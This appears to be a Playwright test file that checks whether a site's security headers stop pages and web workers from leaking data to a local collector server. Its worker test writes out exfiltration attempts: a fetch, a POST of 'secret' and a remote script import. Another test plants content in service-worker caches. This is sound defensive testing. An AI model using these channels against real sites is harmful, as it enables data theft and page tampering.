import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import { test as base, type BrowserContext, expect, type Page } from '@playwright/test';
import {
  leavingChannels,
  navigations,
  openingChannels,
  ownChannels,
  plantInCaches,
  silentChannels,
} from './exfiltration-channels.ts';
import { readSite } from './pages.ts';
import { storeNothing, waitUntilStored } from './stored-files.ts';

// The page fixture of the other tests would fail here on every report of a blocked request, which is what we want to see.

interface Collector {
  readonly address: string;
  /** First bytes of whatever arrived, by TCP or UDP. */
  readonly received: string[];
}

const test = base.extend<{ collector: Collector }>({
  collector: async ({}, use) => {
    const received: string[] = [];
    const server = createServer((socket) => {
      received.push('connection');
      socket.on('data', (chunk) => received.push(chunk.toString('latin1').slice(0, 60)));
      socket.on('error', () => {});
      socket.end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\n\r\n');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as { port: number };
    const udp = createSocket('udp4');
    udp.on('message', () => received.push('datagram'));
    await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
    await use({ address: `http://127.0.0.1:${port}/`, received });
    udp.close();
    server.close();
  },
});

// No switch turns Connection-Allowlist on: Chromium enforces it by itself from 152 on. Where it does not, WebRTC,
// navigation and pop-ups stay open, since no Content-Security-Policy closes them.

/** One page of each policy except those of two tools, which differ from other tools' by one address or by the camera. */
const pages = ['/tools/hash-generator', '/', '/support', '/admin'];
const settleMs = 1500;

async function runChannel(page: Page, code: string, collector: string): Promise<void> {
  const script = `(async () => {
    const collector = ${JSON.stringify(collector)};
    const collectorHost = new URL(collector).host;
    const element = (name, attributes = {}) => {
      const made = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      document.body.append(made);
      return made;
    };
    ${code};
  })().catch(() => undefined)`;
  // A channel that navigates takes the page, and with it this call's answer, away.
  await page.evaluate(script).catch(() => undefined);
}

async function openFresh(context: BrowserContext, path: string): Promise<Page> {
  const page = await context.newPage();
  await page.goto(path);
  await page.locator('html[data-hydrated]').waitFor();
  return page;
}

test('the collector notices what does leave a page without our headers', async ({ page, collector }) => {
  await page.goto(collector.address);
  collector.received.length = 0;
  await runChannel(page, `${silentChannels.fetch ?? ''}; ${silentChannels.image ?? ''}`, collector.address);
  await expect.poll(() => collector.received.join()).toContain('GET /image');
  expect(collector.received.join()).toContain('GET /fetch');
  await runChannel(page, navigations[0] ?? '', collector.address);
  for (const path of ['open', 'open-no-opener', 'link-target', 'ping', 'form-target'])
    await expect.poll(() => collector.received.join()).toMatch(new RegExp(`(?:GET|POST) /${path}[ ?]`));
});

test('pages of one kind are sent with the same headers as the one tried here', async ({ request }) => {
  const readHeaders = async (path: string) => {
    const headers = (await request.get(path)).headers();
    // Each document names its own scripts and styles by their hashes.
    const policy = headers['content-security-policy']?.replaceAll(/ 'sha256-[^']+'/g, '');
    return [policy, headers['connection-allowlist'], headers['cross-origin-opener-policy']];
  };
  const { entries } = readSite();
  const kindOf = (path: string) => entries.find((entry) => entry.path === path)?.policy;
  for (const tried of pages) {
    const expected = await readHeaders(tried);
    for (const { path } of entries.filter(
      ({ policy, type }) => policy === kindOf(tried) && type.startsWith('text/html'),
    ))
      expect(await readHeaders(path), path).toEqual(expected);
  }
  expect(await readHeaders('/no-such-page')).toEqual(await readHeaders('/'));
});

for (const path of pages) {
  test(`${path}: ${Object.keys(silentChannels).length} silent channels, 0 open`, async ({
    context,
    collector,
  }) => {
    await storeNothing(context);
    const page = await openFresh(context, path);
    for (const code of Object.values(silentChannels))
      await runChannel(page, `{ ${code} }`, collector.address);
    await page.waitForTimeout(settleMs);
    expect(collector.received).toEqual([]);
  });
}

for (const path of pages) {
  const count = Object.keys({ ...openingChannels, ...leavingChannels }).length;
  test(`${path}: ${count} channels by leaving, 0 open`, async ({ context, collector }) => {
    await storeNothing(context);
    for (const code of navigations) {
      const page = await openFresh(context, path);
      await runChannel(page, code, collector.address);
      await page.waitForTimeout(300);
      await page.close();
    }
    expect(collector.received).toEqual([]);
  });
}

test('what a page writes over the stored pages and scripts is never answered with', async ({
  context,
  collector,
}) => {
  test.slow();
  const page = await openFresh(context, '/tools/hash-generator');
  await waitUntilStored(page);
  const session = await context.newCDPSession(page);
  await session.send('ServiceWorker.enable');
  for (const isStopped of [false, true]) {
    expect(await page.evaluate(plantInCaches, collector.address)).toBeGreaterThan(1000);
    // A restarted worker has forgotten its earlier checks.
    if (isStopped) await session.send('ServiceWorker.stopAllWorkers');
    for (const path of [...pages, '/no-such-page']) {
      const visited = await context.newPage();
      await visited.goto(path);
      expect(await visited.title(), path).not.toBe('Planted');
      await visited.locator('html[data-hydrated]').waitFor();
      await visited.close();
    }
  }
  await page.goto('/tools/hash-generator');
  await page.getByLabel('Text to hash').fill('abc');
  await expect(page.getByTestId('digest')).toContainText('ba7816bf');
  expect(collector.received).toEqual([]);
});

test('a tool page cannot reach even our own API', async ({ page, collector }) => {
  const sent: string[] = [];
  page.on('response', (response) => {
    const { pathname } = new URL(response.url());
    if (/^\/(?:rest|api|livez)/.test(pathname)) sent.push(pathname);
  });
  for (const path of ['/tools/hash-generator', '/tools/ip-lookup']) {
    await page.goto(path);
    // The form comes last, because it would leave the page.
    for (const [name, code] of Object.entries(ownChannels)) {
      await runChannel(page, `{ ${code} }`, collector.address);
      await page.waitForTimeout(300);
      expect(sent, `${name} of ${path}`).toEqual([]);
    }
  }
});

test('a worker of a tool page can reach nothing either', async ({ page, collector }) => {
  await page.goto('/tools/hash-generator');
  const [worker] = await Promise.all([
    page.waitForEvent('worker'),
    page.getByLabel('Text to hash').fill('abc'),
  ]);
  await worker
    .evaluate(async (address) => {
      const attempts = [
        fetch(`${address}worker`, { mode: 'no-cors' }),
        fetch('/rest/v1/contact_messages', { method: 'POST', body: 'secret' }),
        import(`${address}worker.js`),
      ];
      const outcomes = await Promise.allSettled(attempts);
      return outcomes.map(({ status }) => status);
    }, collector.address)
    .then((outcomes) => expect(outcomes).toEqual(['rejected', 'rejected', 'rejected']));
  expect(collector.received).toEqual([]);
});
